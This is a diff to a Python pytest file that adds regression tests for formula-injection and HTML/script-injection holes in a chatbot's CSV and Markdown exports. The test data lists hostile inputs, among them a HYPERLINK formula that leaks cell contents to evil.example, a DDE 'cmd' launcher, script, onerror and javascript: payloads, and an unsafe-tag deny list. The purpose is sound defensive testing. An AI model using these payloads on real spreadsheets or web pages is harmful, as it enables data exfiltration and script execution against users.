@@ -1,4 +1,11 @@
-"""Export and explorer views: audit-trail Markdown, figures CSV, safe Markdown, table views."""
+"""Export and explorer views: audit-trail Markdown, figures CSV, safe Markdown, table views.
+
+Issue 14 reproductions: questions starting with ``=``, ``+``, ``-``, ``@`` or a tab reached the
+figures CSV unescaped (a ``=HYPERLINK(...)`` opened in a spreadsheet), and the Markdown export
+kept ``<script>``, ``<img onerror>`` and ``<iframe>`` from questions verbatim. Both exports are
+parsed here as their readers parse them: the CSV by a CSV reader, the Markdown rendered by a
+CommonMark renderer (markdown-it-py, raw HTML on) and the HTML it makes parsed for elements.
+"""
 
 from __future__ import annotations
 
@@ -6,12 +13,15 @@ import csv
 import io
 import re
 from datetime import UTC, datetime
+from html.parser import HTMLParser
 
 import pandas as pd
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
+from chatbot import about as about_mod
 from chatbot import export
 from chatbot.export import NO_SOURCE, escape_markdown, highlight_quote
 from chatbot.records import Answer, Citation
@@ -69,11 +79,13 @@ def test_markdown_is_an_audit_trail_with_every_citation():
                                       exported_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC))
     assert md.startswith("# Snapshot Q&A: conversation about DDHI Snapshot 2023")
     assert "2026-01-02T03:04:05+00:00" in md
+    shown = rendered(md).text
     for m in msgs:
         if m["role"] == "user":
-            assert f"> {m['content']}" in md  # every question, verbatim
+            assert f"> {export.markdown_text(m['content'])}" in md  # every question, word for word
+            assert m["content"] in shown
         elif "answer" in m:
-            assert m["answer"].text.splitlines()[0] in md
+            assert export.markdown_text(m["answer"].text.splitlines()[0]) in md
             for c in m["answer"].citations:
                 assert c.quote in md
                 assert f"data source: {c.source or NO_SOURCE}" in md
@@ -219,8 +231,8 @@ def test_investment_rows_compare_fdi_and_ddi(table):
 
 def test_about_reads_the_snapshot(corpus, clean_text):
     corpus_text = clean_text
-    origin = export.read_origin(Settings().corpus_paths)
-    about = export.about_snapshot(corpus.table, corpus.chunks, corpus.snapshots, origin)
+    origin = about_mod.read_origin(Settings().corpus_paths)
+    about = about_mod.about_snapshot(corpus.table, corpus.chunks, corpus.snapshots, origin)
     assert about.titles == ("Data Driven Healthcare Innovation — Midlands Cluster Snapshot 2023",)
     assert about.publisher.startswith("Midlands Engine Observatory")
     assert about.data_as_of == "May 2023"
@@ -238,6 +250,97 @@ def test_about_reads_the_snapshot(corpus, clean_text):
 
 def test_about_without_the_facts_says_not_stated():
     empty = pd.DataFrame(columns=["metric_id", "label", "display", "unit", "source", "section"])
-    about = export.about_snapshot(empty, [], [], "")
+    about = about_mod.about_snapshot(empty, [], [], "")
     assert (about.publisher, about.data_as_of, about.coverage) == ("not stated",) * 3
     assert about.sources == () and about.caveats == ()
+
+
+# --- injection into the downloads (issue 14) ---------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+1+1", "-2+3",
+            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "=cmd|' /C calc'!A0", "%0A=1",
+            "|calc", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
+HTML_PAYLOADS = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
+    "<svg onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<IMG SRC=x ONERROR=alert(2)>",
+    "![x](http://evil.example/pixel.png)", "[click](javascript:alert(1))", "<javascript:alert(1)>",
+    "[ref]\n\n[ref]: javascript:alert(1)", "![y][p]\n\n[p]: http://evil.example/p.png",
+    "<details open ontoggle=alert(1)>", "&lt;script&gt;", "<object data=x>", "<embed src=x>",
+    "<style>*{}</style>", "<!-- x --><script>", "`<script>`", "```\n<script>\n```",
+]
+UNSAFE_TAGS = {"script", "img", "iframe", "svg", "object", "embed", "style", "details", "body",
+               "input", "form", "link", "meta", "base", "video", "audio", "source"}
+
+
+class _Elements(HTMLParser):
+    """Every element and attribute of rendered HTML, and its text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict]] = []
+        self.parts: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, {k: v or "" for k, v in attrs}))
+
+    def handle_data(self, data):
+        self.parts.append(data)
+
+    @property
+    def text(self) -> str:
+        return "".join(self.parts)
+
+
+def rendered(markdown: str) -> _Elements:
+    parser = _Elements()
+    parser.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
+    return parser
+
+
+def _asked(question: str) -> list[dict]:
+    ans = Answer(text=f"No figure for {question} here [1].", answered=True, citations=[SALARY],
+                 kind="figure")
+    return [{"role": "user", "content": question}, {"role": "assistant", "content": ans.text,
+                                                   "answer": ans}]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_never_start_like_a_formula(table, formula):
+    rows = list(csv.reader(io.StringIO(export.figures_csv(_asked(formula), table), newline="")))
+    question = rows[1][export.FIGURE_COLUMNS.index("question")]
+    assert question == "'" + formula.replace("\r", "\n")  # the text the reader typed
+    assert len(rows) == 2, rows  # no row starts inside a cell
+    for cell in rows[1]:
+        assert not cell.lstrip(" ").startswith(export.FORMULA_START) or re.fullmatch(r"-?[\d.,]+%?", cell)
+
+
+def test_plain_numbers_stay_numbers_and_the_explorer_csv_is_safe(table):
+    assert [export.spreadsheet_safe(v) for v in ("-5%", "+3", "-1,234.5", "", 7)] == [
+        "-5%", "+3", "-1,234.5", "", 7]
+    hostile = table.head(3).copy()
+    hostile.loc[hostile.index[0], "quote"] = '=HYPERLINK("http://evil.example","x")'
+    hostile.loc[hostile.index[1], "label"] = "@SUM(A1)"
+    rows = list(csv.DictReader(io.StringIO(export.table_csv(hostile))))
+    assert rows[0]["quote"].startswith("'=") and rows[1]["label"] == "'@SUM(A1)"
+    assert rows[2]["quote"] == hostile["quote"].iloc[2]  # ordinary cells untouched
+
+
+@pytest.mark.parametrize("payload", HTML_PAYLOADS)
+def test_markdown_export_renders_no_html_from_questions(payload):
+    messages = _asked(payload) + [{"role": "user", "content": f"What is the salary? {payload}"},
+                                  {"role": "assistant", "content": "", "error": payload}]
+    page = rendered(export.conversation_markdown(messages, f"Title {payload}"))
+    for tag, attrs in page.tags:
+        assert tag not in UNSAFE_TAGS, (payload, tag)
+        assert not any(name.startswith("on") for name in attrs), (payload, attrs)
+        assert not any(v.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
+                       for v in attrs.values()), (payload, attrs)
+        assert tag != "a", (payload, attrs)  # no links at all from user text
+    flat = " ".join(payload.split())
+    assert flat.replace("`", "") in " ".join(page.text.split()).replace("`", "") or "\n" in payload
+
+
+def test_the_old_export_fails_these_checks():
+    """The checks above catch what issue 14 found: the raw question rendered makes elements."""
+    page = rendered("> <script>alert(1)</script> <img src=x onerror=alert(1)> <iframe src=x>")
+    assert {"script", "img", "iframe"} <= {t for t, _a in page.tags}
